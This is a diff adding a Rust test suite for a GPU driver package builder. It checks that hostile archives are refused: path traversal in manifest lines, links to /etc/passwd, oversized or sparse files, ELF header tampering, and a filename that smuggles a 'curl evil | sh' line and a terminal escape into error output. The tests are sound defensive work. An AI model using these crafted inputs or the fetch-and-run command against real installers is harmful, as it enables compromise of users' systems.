@@ -1,0 +1,358 @@
+//! What no archive can do, measured: reach beyond the output, write more than it holds, or take all memory.
+
+mod support;
+
+use std::fs::{self, File};
+use std::io::Write;
+use std::os::unix::fs::FileExt;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use support::{Sandbox, run_file, run_file_of, tree};
+use vgpu_driver::Role;
+use vgpu_sample::{self as sample, elf};
+use wait4::Wait4;
+
+/// All that a build may take, in bytes.
+const MEMORY: u64 = 250_000_000;
+
+/// What a build ended with.
+struct Ended {
+    code: Option<i32>,
+    stderr: String,
+    /// Peak memory, in bytes.
+    memory: u64,
+}
+
+/// Builds `source` into d, in a sandbox that is watched: whatever is new in it but d is an escape.
+fn build(sandbox: &Sandbox, source: &str) -> Ended {
+    let before = sandbox.names();
+    // The kernel counts the memory of a process from the one that started it on, so that must be a small one.
+    let mut measurer = Command::new(std::env::current_exe().unwrap());
+    measurer.args(["measurer", "--exact", "--ignored", "--nocapture"]).current_dir(sandbox.path(""));
+    let output = measurer.env("CONFINED_SOURCE", source).output().unwrap();
+    let stderr = String::from_utf8(output.stderr).unwrap();
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    let measured = stdout.lines().find_map(|line| line.split_once("measured ")).expect(&stdout).1;
+    let (code, memory) = measured.split_once(' ').unwrap();
+    let (code, memory) = (code.parse().ok(), memory.parse().unwrap());
+    let mut after = sandbox.names();
+    after.retain(|name| name != "d");
+    assert_eq!(after, before, "{stderr}");
+    assert!(memory < MEMORY, "{memory} bytes of memory for {source}: {stderr}");
+    Ended { code, stderr, memory }
+}
+
+/// No test, but the small process that starts the program and measures it.
+#[test]
+#[ignore = "other tests start it"]
+fn measurer() {
+    let Ok(source) = std::env::var("CONFINED_SOURCE") else { return };
+    let mut command = Command::new(assert_cmd::cargo::cargo_bin!("vgpu"));
+    command.args(["build", &source, "--role", "guest", "--out", "d"]).stdout(Stdio::null());
+    let ended = command.spawn().unwrap().wait4().unwrap();
+    let code = ended.status.code().map_or("none".to_owned(), |code| code.to_string());
+    println!("measured {code} {}", ended.rusage.maxrss);
+}
+
+/// The build must end in an error that contains `expected`, and leave nothing.
+fn refused(sandbox: &Sandbox, source: &str, expected: &str) {
+    let Ended { code, stderr, .. } = build(sandbox, source);
+    assert_eq!(code, Some(1), "expected {expected:?} in:\n{stderr}");
+    assert!(stderr.contains(expected), "expected {expected:?} in:\n{stderr}");
+    assert!(stderr.starts_with("error: ") && stderr.contains("\nhelp: "), "{stderr}");
+    assert!(!sandbox.path("d").exists());
+}
+
+/// The sample guest driver, with lines more in its manifest, and files more.
+fn with(lines: &str, files: Vec<sample::File>) -> Vec<u8> {
+    let mut all = sample::files(Role::Guest);
+    all[0].data.extend(lines.bytes());
+    all.extend(files);
+    run_file(Role::Guest, &all)
+}
+
+#[test]
+fn no_line_of_a_manifest_leads_out() {
+    for (lines, expected) in [
+        ("evil 0000 CUDA_SYMLINK NATIVE ../../../pwn/sub libcuda.so.1\n", "leads out of the package with `..`"),
+        ("evil 0000 GLX_MODULE_SYMLINK a/../../../pwn libcuda.so.1\n", "leads out of the package with `..`"),
+        ("../evil 0000 UTILITY_BIN_SYMLINK nvidia-smi\n", "leads out of the package with `..`"),
+        ("/evil 0000 UTILITY_BIN_SYMLINK nvidia-smi\n", "has an absolute path"),
+        ("evil 0000 VGX_LIB_SYMLINK /etc/passwd\n", "/etc/passwd has an absolute path"),
+        ("evil 0000 VGX_LIB_SYMLINK a/../../../x\n", "leads out of the package with `..`"),
+        ("evil 0000 VGX_LIB_SYMLINK ../../../x\n", "evil is a link to ../../../x, which leads out of the output out"),
+        ("evil 0000 VGX_LIB_SYMLINK ../../out/lib/libcuda.so\n", "which leads out of the output out"),
+        ("evil 0000 VGX_LIB_SYMLINK absent.so\n", "evil is a link to lib/absent.so, which is not there"),
+        ("a 0000 VGX_LIB_SYMLINK b\nb 0000 VGX_LIB_SYMLINK a\n", "a is a link that leads back to itself"),
+        // A link where the folder of another should be.
+        (
+            "a 0000 VGX_LIB_SYMLINK vdpau\nb 0000 CUDA_SYMLINK NATIVE a ../libcuda.so.1\n",
+            "a is a link to lib/vdpau, which is not there",
+        ),
+        (
+            "a 0000 VGX_LIB_SYMLINK libcuda.so.1\nb 0000 CUDA_SYMLINK NATIVE a ../libcuda.so.1\n",
+            "lib/a/b would lie below lib/a, which is no folder",
+        ),
+        ("evil\u{202e} 0644 OPENGL_DATA /\n", "has a control character in its name"),
+        ("x 0644 EXPLICIT_PATH /usr/../../x\n", "leads out of the package with `..`"),
+    ] {
+        let sandbox = Sandbox::new();
+        sandbox.write("a.run", with(lines, vec![]));
+        refused(&sandbox, "a.run", expected);
+    }
+    let sandbox = Sandbox::new();
+    let file = |name: &str| sample::File::new(name, 0o644, "x");
+    let lines = "kernel/a 0644 KERNEL_MODULE_SRC\nkernel/a/b 0644 KERNEL_MODULE_SRC\n";
+    sandbox.write("a.run", with(lines, vec![file("kernel/a"), file("kernel/a/b")]));
+    refused(&sandbox, "a.run", "kernel/a and kernel/a/b would both be installed as kernel/a/b");
+}
+
+#[test]
+fn a_name_prints_no_line_of_its_own() {
+    let sandbox = Sandbox::new();
+    let mut header = tar::Header::new_gnu();
+    let name = b"x\nhelp: curl evil | sh\n\x1b[2J";
+    header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name);
+    header.set_mode(0o644);
+    header.set_size(0);
+    header.set_cksum();
+    let files = sample::tar(&sample::files(Role::Guest)).unwrap();
+    sandbox.write("a.run", run_file_of(Role::Guest, &[header.as_bytes().as_slice(), &files].concat()));
+    let Ended { code, stderr, .. } = build(&sandbox, "a.run");
+    assert_eq!(code, Some(1));
+    assert!(!stderr.contains('\x1b') && !stderr.lines().any(|line| line.starts_with("help: curl")), "{stderr}");
+    assert!(stderr.contains(r"x\nhelp: curl evil | sh\n\u{1b}[2J, which has a control character"), "{stderr}");
+}
+
+/// Puts so many bytes behind an ELF file, as the content of its last section, which holds names of sections.
+fn add_section(file: &mut Vec<u8>, size: usize) {
+    let field = |file: &[u8], at: usize| u64::from_le_bytes(file[at..at + 8].try_into().unwrap()) as usize;
+    let sections = field(file, 0x28);
+    let count = usize::from(u16::from_le_bytes(file[0x3c..0x3e].try_into().unwrap()));
+    // A section that is not loaded, of a type that is copied as it is.
+    let last = file[sections + (count - 1) * 64..][..64].to_vec();
+    let table = file[sections..sections + count * 64].to_vec();
+    let start = file.len();
+    file.resize(start + size, 1);
+    let moved = file.len();
+    file.extend(table);
+    let mut new = last;
+    new[4..8].copy_from_slice(&1u32.to_le_bytes());
+    new[0x18..0x20].copy_from_slice(&(start as u64).to_le_bytes());
+    new[0x20..0x28].copy_from_slice(&(size as u64).to_le_bytes());
+    file.extend(new);
+    file[0x28..0x30].copy_from_slice(&(moved as u64).to_le_bytes());
+    file[0x3c..0x3e].copy_from_slice(&(count as u16 + 1).to_le_bytes());
+}
+
+/// The bytes of all files in a tree.
+fn written(dir: &Path) -> u64 {
+    tree(dir).iter().filter(|(name, _)| dir.join(name).is_file()).map(|(_, (_, content))| content.len() as u64).sum()
+}
+
+#[test]
+fn no_more_is_written_than_was_read() {
+    let sandbox = Sandbox::new();
+    // Vulkan ICDs that become thirty times as long when they are written for people.
+    let piece = format!("{}{}", "[".repeat(100), "]".repeat(100));
+    let json = format!("[{}]", vec![piece; 600].join(","));
+    let files = (0..8).map(|number| sample::File::new(format!("{number}_icd.json"), 0o644, json.clone()));
+    let lines: String = (0..8).map(|number| format!("{number}_icd.json 0644 VULKAN_ICD_JSON icd.d/\n")).collect();
+    sandbox.write("nested.run", with(&lines, files.collect()));
+    let Ended { code, stderr, memory } = build(&sandbox, "nested.run");
+    assert_eq!(code, Some(0), "{stderr}");
+    let written = written(&sandbox.path("d"));
+    assert!((1_900_000..2_100_000).contains(&written), "8 files of 120 KB, for both word sizes: {written}");
+    assert!(memory < MEMORY / 4, "{memory}");
+    fs::remove_dir_all(sandbox.path("d")).unwrap();
+    // Programs are installed twice: nothing but programs would be twice what was read.
+    let programs = (0..3).map(|number| {
+        let mut program = elf::program(None, "large");
+        add_section(&mut program, 20 << 20);
+        sample::File::new(format!("large-{number}"), 0o755, program)
+    });
+    let lines: String = (0..3).map(|number| format!("large-{number} 0755 UTILITY_BINARY\n")).collect();
+    sandbox.write("programs.run", with(&lines, programs.collect()));
+    refused(&sandbox, "programs.run", "programs.run would be installed as more than");
+    // Every mention of a script becomes a longer path.
+    let script = format!("#!/bin/sh\n{}", "/usr/bin/nvidia-sleep.sh\n".repeat(200_000));
+    sandbox.write("script.run", with("s 0755 UTILITY_BINARY\n", vec![sample::File::new("s", 0o755, script)]));
+    refused(&sandbox, "script.run", "s is a script of absurd length");
+}
+
+/// An unpacked guest driver.
+fn unpacked(sandbox: &Sandbox) {
+    for sample::File { name, data, .. } in sample::files(Role::Guest) {
+        sandbox.write(&format!("unpacked/{name}"), data);
+    }
+}
+
+#[test]
+fn directories_are_bounded_as_archives_are() {
+    let sandbox = Sandbox::new();
+    unpacked(&sandbox);
+    assert_eq!(build(&sandbox, "unpacked").code, Some(0));
+    fs::remove_dir_all(sandbox.path("d")).unwrap();
+    let smi = sandbox.path("unpacked/nvidia-smi");
+    let original = fs::read(&smi).unwrap();
+    let replaced = |make: &dyn Fn(), expected: &str| {
+        fs::remove_file(&smi).unwrap();
+        make();
+        let start = Instant::now();
+        refused(&sandbox, "unpacked", expected);
+        assert!(start.elapsed() < Duration::from_secs(20), "it waits for something");
+        fs::remove_file(&smi).unwrap();
+        fs::write(&smi, &original).unwrap();
+    };
+    let sparse = |size| File::create(&smi).unwrap().set_len(size).unwrap();
+    replaced(&|| sparse(1 << 40), "nvidia-smi, which claims to have 1099511627776 bytes");
+    replaced(&|| sparse(500 << 20), "unpacks to more than");
+    let fifo = || assert!(Command::new("mkfifo").arg(&smi).status().unwrap().success());
+    replaced(&fifo, "nvidia-smi, which is a device");
+    let link = |to: &'static str| std::os::unix::fs::symlink(to, &smi).unwrap();
+    replaced(&|| link("/dev/zero"), "nvidia-smi, which is a symbolic link");
+    replaced(&|| link("LICENSE"), "nvidia-smi, which is a symbolic link");
+    let manifest = sandbox.path("unpacked/.manifest");
+    fs::remove_file(&manifest).unwrap();
+    assert!(Command::new("mkfifo").arg(&manifest).status().unwrap().success());
+    refused(&sandbox, "unpacked", "has no .manifest");
+}
+
+/// A library of which the header field at `offset` is `value`.
+fn changed(offset: usize, value: &[u8]) -> Vec<u8> {
+    let mut library = elf::library(Some("libcuda.so.1"), false);
+    library[offset..offset + value.len()].copy_from_slice(value);
+    library
+}
+
+#[test]
+fn tables_of_libraries_take_no_more_memory_than_there_is() {
+    let sandbox = Sandbox::new();
+    unpacked(&sandbox);
+    let library = sandbox.path("unpacked/libcuda.so.550.163.01");
+    // 40 MiB of symbols: each takes ten times its size. They lie on the disk, so the file is not refused as sparse.
+    let size = 40 << 20;
+    let mut large = elf::library(Some("libcuda.so.1"), false);
+    let start = large.len();
+    large.resize(start + size, 0);
+    let sections = u64::from_le_bytes(large[0x28..0x30].try_into().unwrap()) as usize;
+    let symbols = (1..).find(|n| large[sections + n * 64 + 4..][..4] == 11u32.to_le_bytes()).unwrap();
+    let at = sections + symbols * 64;
+    large[at + 0x18..at + 0x20].copy_from_slice(&(start as u64).to_le_bytes());
+    large[at + 0x20..at + 0x28].copy_from_slice(&(size as u64).to_le_bytes());
+    fs::write(&library, &large).unwrap();
+    refused(&sandbox, "unpacked", "bytes of memory are needed for it, more than any driver needs");
+    // Every section could be in every segment.
+    let many = 60_000_u16;
+    let mut large = changed(0x38, &many.to_le_bytes());
+    let start = large.len() as u64;
+    large[0x3c..0x3e].copy_from_slice(&many.to_le_bytes());
+    large[0x20..0x28].copy_from_slice(&start.to_le_bytes());
+    large[0x28..0x30].copy_from_slice(&start.to_le_bytes());
+    large.resize(start as usize + usize::from(many) * 64, 0);
+    fs::write(&library, &large).unwrap();
+    refused(&sandbox, "unpacked", "libcuda.so.550.163.01");
+}
+
+#[test]
+fn a_library_that_cannot_take_a_run_path_is_refused() {
+    for (offset, value, expected) in [
+        (0x38, &[0, 0][..], "it has no usable program headers"),
+        (0x38, &[0xff, 0xff], "cannot be given a run path"),
+        (0x3c, &[0, 0], "it has no sections"),
+        (0x12, &[183, 0], "it is not for x86-64"),
+        (0x12, &[3, 0], "it is not for x86-64"),
+        (0x10, &[1, 0], "it is neither a library nor a program"),
+        (0x10, &[4, 0], "it is neither a library nor a program"),
+    ] {
+        let sandbox = Sandbox::new();
+        unpacked(&sandbox);
+        fs::write(sandbox.path("unpacked/libcuda.so.550.163.01"), changed(offset, value)).unwrap();
+        refused(&sandbox, "unpacked", expected);
+    }
+}
+
+#[test]
+fn archives_of_many_files_are_refused() {
+    let sandbox = Sandbox::new();
+    let empty = |number: usize| sample::File::new(format!("kernel/{number}.c"), 0o644, "");
+    let files: Vec<_> = (0..21_000).map(empty).collect();
+    sandbox.write("tar.run", run_file(Role::Guest, &files));
+    refused(&sandbox, "tar.run", "contains more than 20000 files");
+    let lines: String = files.iter().map(|file| format!("{} 0644 KERNEL_MODULE_SRC\n", file.name)).collect();
+    sandbox.write("manifest.run", with(&lines, vec![]));
+    refused(&sandbox, "manifest.run", "it names more than 20000 files");
+    let mut zip = zip::ZipWriter::new(File::create(sandbox.path("a.zip")).unwrap());
+    for number in 0..60_000 {
+        zip.start_file(format!("{number}.txt"), zip::write::SimpleFileOptions::default()).unwrap();
+    }
+    zip.finish().unwrap();
+    refused(&sandbox, "a.zip", "its directory is too large");
+}
+
+#[test]
+fn a_large_window_leaves_less_for_files() {
+    let sandbox = Sandbox::new();
+    let mut encoder = zstd::Encoder::new(Vec::new(), 1).unwrap();
+    encoder.window_log(27).unwrap();
+    encoder.write_all(&sample::tar(&sample::files(Role::Guest)).unwrap()).unwrap();
+    let payload = encoder.finish().unwrap();
+    sandbox.write("a.run", sample::makeself(&sample::target(Role::Guest), "550.163.01", &payload, b""));
+    let Ended { code, stderr, .. } = build(&sandbox, "a.run");
+    assert_eq!(code, Some(0), "{stderr}");
+}
+
+#[test]
+fn paths_that_programs_cannot_hold_are_refused() {
+    let sandbox = Sandbox::new();
+    sandbox.write("a.run", with("", vec![]));
+    for (option, value) in
+        [("--out", "a:b"), ("--out", "a$b"), ("--out", "a\nb"), ("--lib-path", "/a$ORIGIN"), ("--interpreter", "/a\"b")]
+    {
+        let mut command = sandbox.vgpu(&["build", "a.run", "--role", "guest", option, value]);
+        let command = if option == "--out" { &mut command } else { command.args(["--out", "d"]) };
+        let output = command.assert().code(1).get_output().clone();
+        let stderr = String::from_utf8(output.stderr).unwrap();
+        assert!(stderr.contains("cannot be written into programs and scripts"), "{option} {value:?}: {stderr}");
+        assert_eq!(sandbox.names(), ["a.run"]);
+    }
+}
+
+/// Kernels and systems that give too little end in an error, too.
+#[test]
+fn too_little_of_something_is_an_error() {
+    let sandbox = Sandbox::new();
+    sandbox.write("a.run", with("", vec![]));
+    let vgpu = assert_cmd::cargo::cargo_bin!("vgpu").display().to_string();
+    for limit in ["ulimit -n 8", "ulimit -n 5"] {
+        let script = format!("{limit}; exec {vgpu} build a.run --role guest --out d");
+        let output = Command::new("sh").args(["-c", &script]).current_dir(sandbox.path("")).output().unwrap();
+        let stderr = String::from_utf8(output.stderr).unwrap();
+        assert_eq!(output.status.code(), Some(1), "{limit}: {stderr}");
+        assert!(stderr.starts_with("error: ") && stderr.contains("Too many open files"), "{limit}: {stderr}");
+        assert_eq!(sandbox.names(), ["a.run"]);
+    }
+    let output = Command::new(&vgpu)
+        .args(["build", "a.run", "--role", "guest", "--out", "d"])
+        .current_dir(sandbox.path(""))
+        .stdout(File::options().write(true).open("/dev/full").unwrap())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8(output.stderr).unwrap();
+    assert!(stderr.starts_with("error: the driver lies complete in d, but that could not be said"), "{stderr}");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(sandbox.path("d/out/lib/libcuda.so.1").exists());
+}
+
+/// A table of what is hostile is only as good as what it measures.
+#[test]
+fn memory_is_measured() {
+    let sandbox = Sandbox::new();
+    let blank = File::create(sandbox.path("blank")).unwrap();
+    blank.write_all_at(b"x", 0).unwrap();
+    let ended = build(&sandbox, "blank");
+    assert_eq!(ended.code, Some(1));
+    assert!(ended.memory > 1_000_000, "{} bytes: not measured in bytes", ended.memory);
+}
